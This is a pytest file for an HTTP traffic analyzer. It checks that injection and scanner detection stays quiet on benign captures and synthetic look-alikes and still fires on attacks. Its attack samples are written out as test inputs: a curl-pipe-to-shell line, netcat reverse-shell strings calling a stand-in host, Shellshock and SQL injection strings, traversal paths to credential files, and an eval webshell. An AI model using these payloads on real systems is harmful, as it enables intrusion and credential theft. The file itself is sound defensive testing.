"""Detection stays quiet on real benign traffic and still reports the attacks (issue 11).

Two parts. The corpus part runs every capture of ``../shared/corpus/pcaps`` alone through the real
``apicensus analyze`` (``bench/real_captures_fp.py`` does the same and prints the figures) and checks
it against ``bench/attacks/real_captures.txt``: no attack event on a benign capture, the expected
events on each attack capture and nothing else. It is skipped, with the reason, where the shared
corpus is not beside the clone. The synthetic part builds one request per false-alarm class found
on those captures (and its attack look-alike) and runs from a plain clone.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest

from analyzer.detect import valuekinds
from analyzer.detect.injection import scan
from analyzer.detect.model import DetectExchange
from bench.real_captures_fp import LABELS, capture_events, captures, corpus_pcaps, is_alarm, kind, load_labels
from tests.analyzer.detect.helpers import T0, engine, events_of, ex

PCAPS = corpus_pcaps()
NO_CORPUS = "the shared corpus (../shared/corpus/pcaps beside the clone) is not here"


# --- the corpus ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def corpus_events(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, Any]]]:
    if PCAPS is None:
        pytest.skip(NO_CORPUS)
    work = tmp_path_factory.mktemp("realfp")
    return {pcap.name: capture_events(pcap, work) for pcap in captures(PCAPS)}


def test_labels_name_corpus_captures_with_reasons() -> None:
    labels = load_labels(LABELS)
    assert labels, "no attack capture labelled"
    for expectation in labels.values():
        assert expectation.kinds and expectation.reason
    if PCAPS is None:
        pytest.skip(NO_CORPUS)
    assert set(labels) <= {p.name for p in captures(PCAPS)}


def _describe(events: list[dict[str, Any]]) -> str:
    return "; ".join(f"{kind(e)} {e['host']} {e['path_template']} {json.dumps(e['evidence'])[:120]}" for e in events)


def test_no_attack_event_on_benign_captures(corpus_events: dict[str, list[dict[str, Any]]]) -> None:
    labels = load_labels(LABELS)
    alarms = {
        name: [e for e in events if is_alarm(e)] for name, events in corpus_events.items() if name not in labels
    }
    assert len(alarms) >= 100, "the corpus should hold over a hundred benign captures"
    false = {name: _describe(found) for name, found in alarms.items() if found}
    assert not false, false


def test_attack_captures_give_their_expected_events_and_no_others(corpus_events: dict[str, list[dict[str, Any]]]) -> None:
    for name, expectation in load_labels(LABELS).items():
        alarms = [e for e in corpus_events[name] if is_alarm(e)]
        reported = {kind(e) for e in alarms} | {str(e["type"]) for e in alarms}
        assert expectation.kinds <= reported, (name, sorted(expectation.kinds - reported), _describe(alarms))
        wrong = [e for e in alarms if not expectation.allows(e)]
        assert not wrong, (name, _describe(wrong))


# --- the classes, synthetic ----------------------------------------------------------------------


def _x(path: str = "/", query: str = "", headers: tuple[tuple[str, str], ...] = (), body: bytes = b"") -> DetectExchange:
    return DetectExchange(
        ts=T0, client_ip="192.0.2.1", host="shop.example", method="POST" if body else "GET", path=path,
        query=query, status=200, template=None, template_id=None, path_params=(), request_headers=headers,
        response_headers=(), request_body=body, response_body=b"", response_content_type="", pii=(), uid="",
    )


def _subtypes(x: DetectExchange) -> set[str]:
    return {hit.subtype for hit in scan(x)}


NMAP_AGENT = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"


@pytest.mark.parametrize(
    "agent",
    [
        NMAP_AGENT,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "Wget/1.14 (darwin12.2.0)",
    ],
)
def test_class1_user_agent_prose_is_no_command(agent: str) -> None:
    assert _subtypes(_x(headers=(("User-Agent", agent),))) == set()
    # the same product token under an odd header name (zeek_no-uri) is no command line either
    assert _subtypes(_x(headers=(("X-Agent", agent),))) == set()


@pytest.mark.parametrize("agent", ["() { :; }; /bin/bash -c 'cat /etc/passwd'", "Mozilla/5.0; cat /etc/passwd", "curl -s http://x.example/a.sh | sh"])
def test_class1_shell_syntax_in_user_agent_still_fires(agent: str) -> None:
    assert "cmd_injection" in _subtypes(_x(headers=(("User-Agent", agent),)))


def test_class1_nmap_scan_is_a_scanner_not_an_injection() -> None:
    e = engine()
    for k, path in enumerate(["/.svn/", "/.git/HEAD", "/.hg/requires", "/postinfo.html"]):
        e.feed(ex(T0 + k, path, 404, ip="198.51.100.20", template=None, headers=(("User-Agent", NMAP_AGENT),)))
    assert {ev.subtype for ev in events_of(e, "scanner")} == {"tool"}
    assert {ev.subtype for ev in events_of(e, "injection")} == {"path_traversal"}


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        ((("Referer", "http://cms.example/editor?d=fileupload&type=file&currentfolder=/"),), b""),
        ((("Content-Type", "application/x-www-form-urlencoded"),), b"data=rid%253D62%2526click_type%253D1%2526type%253D1%2526key%253D2"),
        ((("Content-Type", "iavs4/stats"),), b"version=1169\ntype=home\npart.pkg=1\n"),
        ((), b"click_type=1&type=1&dir=up"),
        ((("Cookie", "RealEstateCookie1=text=action=1&&reptype=6&reroomsfrom=2"),), b""),
    ],
)
def test_class2_form_encoded_text_is_split_into_fields(headers: tuple[tuple[str, str], ...], body: bytes) -> None:
    assert _subtypes(_x(headers=headers, body=body)) == set()


@pytest.mark.parametrize(
    ("headers", "body", "subtype"),
    [
        ((("Referer", "http://cms.example/p?d=1&x=a%26type%20C:\\boot.ini"),), b"", "cmd_injection"),
        ((("Referer", "https://www.example.org/?param=something#x=foo;cat$u+/etc$u/passwd"),), b"", "cmd_injection"),
        ((), b"name=joe&cmd=1;cat /etc/passwd", "cmd_injection"),
        ((), b"q=1' or '1'='1&page=2", "sqli"),
        ((("Cookie", "prefs=a=1&b=2' union select password from users--"),), b"", "sqli"),
    ],
)
def test_class2_attacks_inside_split_fields_still_fire(headers: tuple[tuple[str, str], ...], body: bytes, subtype: str) -> None:
    assert subtype in _subtypes(_x(headers=headers, body=body))


def _binary(seed: int, size: int = 600) -> bytes:
    state, out = seed, bytearray()
    for _ in range(size):  # a small LCG: compressed-looking bytes with ; | ` $ [ among them
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(state >> 16 & 0xFF)
    return bytes(out) + b";sh|`$[a]"


def test_class3_binary_values_are_not_inspected() -> None:
    for seed in range(5):
        payload = _binary(seed)
        multipart = (
            b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.jpg\"\r\n\r\n" + payload + b"\r\n--XyZ--\r\n"
        )
        assert _subtypes(_x(headers=(("Content-Type", "multipart/form-data; boundary=XyZ"),), body=multipart)) == set()
        assert _subtypes(_x(body=payload)) == set()
    assert valuekinds.is_binary(_binary(1).decode("utf-8", "replace"))
    assert not valuekinds.is_binary("id=1%00.jpg and\x00 a NUL or two")


def test_class3_an_upload_with_a_text_payload_still_fires() -> None:
    shell = b"GIF89a <%eval (eval(chr(114)+chr(101)+chr(113)))%> <script>alert(1)</script>"
    multipart = b"--XyZ\r\nContent-Disposition: form-data; name=\"NewFile\"; filename=\"x.gif\"\r\n\r\n" + shell + b"\r\n--XyZ--\r\n"
    assert "xss" in _subtypes(_x(headers=(("Content-Type", "multipart/form-data; boundary=XyZ"),), body=multipart))


@pytest.mark.parametrize(
    "body",
    [
        b"txtSubject=FTP+Background+Traffic%3F&txtName=joe",
        b'{"channelData": {"type": "nc:WebSocket"}}',
        b'{"Image": "busybox", "Cmd": ["/bin/sh"], "Tty": true}',
        b"subject=IP addresses",
    ],
)
def test_class4_command_words_in_values_need_shell_arguments(body: bytes) -> None:
    ctype = "application/json" if body.startswith(b"{") else "application/x-www-form-urlencoded"
    assert _subtypes(_x(headers=(("Content-Type", ctype),), body=body)) == set()


@pytest.mark.parametrize("body", [b"host=nc 203.0.113.9 4444 -e /bin/sh", b"cmd=ping -c 3 127.0.0.1", b"x=;nc evil.example 80", b"x=curl localhost", b"x=ps aux"])
def test_class4_command_lines_still_fire(body: bytes) -> None:
    assert "cmd_injection" in _subtypes(_x(headers=(("Content-Type", "application/x-www-form-urlencoded"),), body=body))


@pytest.mark.parametrize(
    ("query", "headers"),
    [
        ("utmcc=__utma%3D1.2.3%3B%2B__utmz%3D1.2.utmcsr%3D(direct)%7Cutmccn%3D(direct)%7Cutmcmd%3D(none)%3B", ()),
        ("products=registernow%3B%3B%3Bevent38%3D1%2Cads%3B2009_in", ()),
        ("cache_buster=%27556581563%27", ()),
        ("", (("Cookie", 'recs-f6ca=""'),)),
        ("", (("Cookie", 'recs-f6ca="0:847740416,846061245,-1:851170431"'),)),
        ("", (("Cookie", "s_sq=oid%3Dfunction(T)%257Bif(!T)%257BT%253Dwindow.event%253B%257D"),)),
        ("", (("Referer", 'http://www.example.co.il/Pages/search.aspx#Default={"r":[{"t":["string(\\"#04ec411fa-97\\")"]}]}'),)),
    ],
)
def test_class5_analytics_and_tracking_values(query: str, headers: tuple[tuple[str, str], ...]) -> None:
    assert _subtypes(_x(query=query, headers=headers)) == set()


@pytest.mark.parametrize(
    ("query", "headers"),
    [
        ("id=%27abc%27", ()),
        ("id=1%27%23", ()),
        ("q=admin%22--", ()),
        ("", (("Cookie", 'pref="1\' or \'1\'=\'1"'),)),
        ("q=if(1=1,sleep(5),0)", ()),
    ],
)
def test_class5_sql_in_the_same_places_still_fires(query: str, headers: tuple[tuple[str, str], ...]) -> None:
    assert "sqli" in _subtypes(_x(query=query, headers=headers))


def test_class6_a_record_naming_a_data_file_is_no_traversal() -> None:
    bulk = b"".join(
        json.dumps(doc).encode() + b"\n"
        for doc in ({"index": {"_index": "logs"}}, {"source": "/var/lib/docker/containers/59/59-json.log", "log": "ok"})
    )
    assert _subtypes(_x("/_bulk", headers=(("Content-Type", "application/x-ndjson"),), body=bulk)) == set()
    assert _subtypes(_x(body=b'{"path": "/var/log/syslog", "dir": "/var/www/html/img"}', headers=(("Content-Type", "application/json"),))) == set()


@pytest.mark.parametrize(
    "query",
    ["file=../../../../var/log/apache2/access.log", "file=/etc/passwd", "f=/proc/self/environ", "p=/var/www/.env", "p=C:\\windows\\win.ini", "u=/root/.aws/credentials"],
)
def test_class6_traversal_and_sensitive_files_still_fire(query: str) -> None:
    assert "path_traversal" in _subtypes(_x(query=query))


def _scanner_subtypes(paths: list[str], status: int) -> set[str | None]:
    e = engine()
    for k, path in enumerate(paths):
        e.feed(ex(T0 + k, path, status, ip="198.51.100.30", template=None if status >= 400 else path))
    return {ev.subtype for ev in events_of(e, "scanner")}


def test_class7_an_application_under_a_probe_prefix_is_no_probe() -> None:
    solr = [f"/solr/RestApi_PH/restapi/{p}" for p in ("categories/HUD", "home", "movies/6241", "moreLikeThis", "search")]
    cgi = [f"/cgi-bin/micromsg-bin/{p}" for p in ("mmsnssync", "mmbatchemojidownload", "getcontactlabellist", "androidgcmreg")]
    assert _scanner_subtypes(solr + cgi, 200) == set()
    # unanswered (a one-sided capture): distinct paths under one prefix are still one probe
    e = engine()
    for k, path in enumerate(solr):
        e.feed(replace(ex(T0 + k, path, ip="198.51.100.31", template=path), status=None))
    assert not events_of(e, "scanner")


def test_class7_distinct_probes_answered_404_still_fire() -> None:
    assert "probe_paths" in _scanner_subtypes(["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/"], 404)


def _all_values(x: DetectExchange) -> Iterator[str]:
    from analyzer.detect.injection import request_values

    for _, _, value, _ in valuekinds.expand(request_values(x)):
        yield value


def test_form_splitting_keeps_every_field_value() -> None:
    x = _x(headers=(("Referer", "http://a.example/p?x=1&y=two#frag"),), body=b"a=1&b=c%3D2%26d%3D3")
    values = set(_all_values(x))
    assert {"1", "two", "frag", "c=2&d=3", "2", "3"} & values == {"1", "two", "frag", "2", "3"}
    assert "http://a.example/p" in values
